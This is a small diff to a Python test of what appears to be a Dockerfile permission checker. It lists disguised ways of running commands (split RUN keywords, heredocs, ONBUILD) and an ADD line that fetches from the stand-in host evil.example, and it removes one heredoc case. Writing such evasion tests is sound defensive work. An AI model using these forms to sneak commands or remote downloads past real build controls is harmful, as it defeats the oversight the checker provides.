@@ -35,7 +35,6 @@ def test_a_build_that_runs_nothing_is_granted() -> None:
         "RU\\\nN ls",
         "R\\\n# comment\nUN ls",
         "RUN <<EOF\nls\nEOF",
-        "COPY <<EOF /x\nRUN ls\nEOF",
         "ONBUILD RUN ls",
         "onbuild run ls",
         "ADD https://evil.example/x /x",
